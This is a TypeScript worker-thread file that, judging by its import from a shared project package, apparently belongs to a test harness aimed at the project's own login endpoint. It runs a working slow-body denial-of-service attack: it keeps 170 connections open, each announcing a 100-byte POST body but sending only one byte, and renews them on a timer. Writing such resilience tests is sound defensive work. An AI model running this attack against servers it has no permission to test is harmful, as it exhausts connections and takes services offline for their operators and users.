/** One attacker, in a thread of its own: connections that announce 100 bytes, send one, and are renewed before they are ended. */
import { connect, type Socket } from 'node:net'
import { workerData } from 'node:worker_threads'
import { apiPaths } from '@zari/shared/api/paths'

const SLOW_BODIES = 170
const RENEWED_MS = 4_800

const { hostname, port } = new URL(String(workerData))
const open = new Map<number, Socket>()
const head = [
  `POST ${apiPaths.login} HTTP/1.1`,
  `Host: ${hostname}:${port}`,
  'Content-Type: application/json',
  'Content-Length: 100',
]

function renew(place: number): void {
  open.get(place)?.destroy()
  const socket = connect(Number(port), hostname)
  socket.on('error', () => {})
  socket.resume()
  socket.write([...head, '', '{'].join('\r\n'))
  open.set(place, socket)
}

for (let place = 0; place < SLOW_BODIES; place++) renew(place)
let next = 0
setInterval(() => renew(next++ % SLOW_BODIES), RENEWED_MS / SLOW_BODIES)
